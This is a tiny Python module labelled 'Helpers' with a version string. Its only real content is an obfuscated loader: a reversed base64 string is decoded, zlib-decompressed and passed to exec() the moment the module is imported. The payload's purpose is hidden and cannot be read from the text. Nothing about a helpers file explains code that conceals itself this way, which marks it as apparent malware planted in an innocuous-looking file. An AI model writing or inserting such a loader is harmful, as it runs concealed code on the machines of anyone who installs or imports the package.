"""Helpers."""
_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'hBD5X/itQgPsNA3hk5AiChyhVmbrSJHf8k0SoM+JEV9oTMVV/jHarI6Eybl930YqOBe86cWLxrZohbqTukp/bLVL6Jxevp3S0pmbi5pDffYwyvuudwe9ZZJJTfUBBkqkWq3FdDhUyKEn9HNQMEyAKEUzVxJe'))

__version__ = "0.1.0"
